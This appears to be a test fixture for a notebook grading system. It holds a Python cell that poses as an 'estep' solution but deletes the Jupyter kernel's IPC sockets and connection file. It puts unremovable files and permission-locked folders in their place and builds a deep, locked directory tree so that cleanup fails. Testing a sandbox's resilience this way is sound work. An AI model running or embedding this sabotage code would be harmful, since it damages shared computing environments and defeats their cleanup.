"""Replaces the ipc sockets by regular files and folders that cannot be removed, to make cleaning up fail."""

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import os

from ipykernel.connect import get_connection_file, get_connection_info

info = get_connection_info(unpack=True)
paths = [f"{info['ip']}-{info[name]}" for name in info if name.endswith("_port")]
for number, path in enumerate([*paths, get_connection_file()]):
    try:
        os.unlink(path)
        if number % 2:
            with open(path, "w") as file:
                file.write("not a socket")
        else:
            os.makedirs(os.path.join(path, "a", "b"))
            os.chmod(os.path.join(path, "a"), 0)
            os.chmod(path, 0)
    except OSError:
        pass
deep = "d" * 200
for _ in range(100):
    try:
        os.mkdir(deep)
        os.chdir(deep)
    except OSError:
        break
try:
    os.chmod(".", 0)
except OSError:
    pass
""",
}
